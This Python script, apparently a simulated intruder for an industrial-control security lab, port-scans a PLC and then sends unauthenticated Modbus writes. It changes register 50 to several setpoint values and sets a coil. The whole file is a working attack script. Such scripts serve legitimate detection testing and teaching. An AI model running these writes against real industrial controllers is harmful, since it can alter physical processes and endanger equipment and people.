"""A host of the enterprise network that has no business here: scans, then writes to the PLC.

    intruder.py PLC
"""

import asyncio
import socket
import sys

from pymodbus.client import AsyncModbusTcpClient


def scan(target: str) -> None:
    """A connect scan of the ports an attacker tries first."""
    for port in (21, 22, 23, 25, 80, 102, 135, 139, 443, 445, 502, 1883, 2404, 3389, 4840, 5900, 8080, 8883, 20000,
                 44818, 47808, 1433, 3306, 5432, 6379, 9100, 10000, 161, 389, 636):  # fmt: skip
        with socket.socket() as s:
            s.settimeout(0.3)
            s.connect_ex((target, port))


async def main() -> None:
    plc = sys.argv[1]
    scan(plc)
    client = AsyncModbusTcpClient(plc, port=502)
    await client.connect()
    await client.read_holding_registers(0, count=60, device_id=1)
    for value in (4000, 4500, 5000):
        await client.write_register(50, value, device_id=1)
        await asyncio.sleep(0.4)
    await client.write_coil(2, True, device_id=1)
    await client.read_holding_registers(500, count=10, device_id=1)
    client.close()


asyncio.run(main())
